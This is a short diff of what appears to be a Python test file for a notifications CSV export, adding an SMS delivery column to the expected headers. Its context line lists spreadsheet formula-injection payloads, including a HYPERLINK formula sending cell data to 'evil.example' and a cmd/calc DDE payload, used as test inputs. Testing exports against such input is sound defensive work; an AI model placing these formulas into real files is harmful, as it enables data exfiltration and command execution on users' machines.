@@ -30,7 +30,7 @@ FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1+cmd|' /C cal
 HARMLESS = ['plain, with a comma and "quotes"', "Grüße ✓ 日本", "line one\nline two", "1+1", "a=b"]
 CSV_COLUMNS = ["id", "type", "priority", "status", "title", "body", "data", "read_at", "created_at", "expires_at",
                "group_key", "group_count", "action_taken", "action_taken_at",
-               "delivery_in_app", "delivery_push", "delivery_email"]  # fmt: skip
+               "delivery_in_app", "delivery_push", "delivery_email", "delivery_sms"]  # fmt: skip
 
 
 def headers(user: uuid.UUID) -> dict[str, str]:
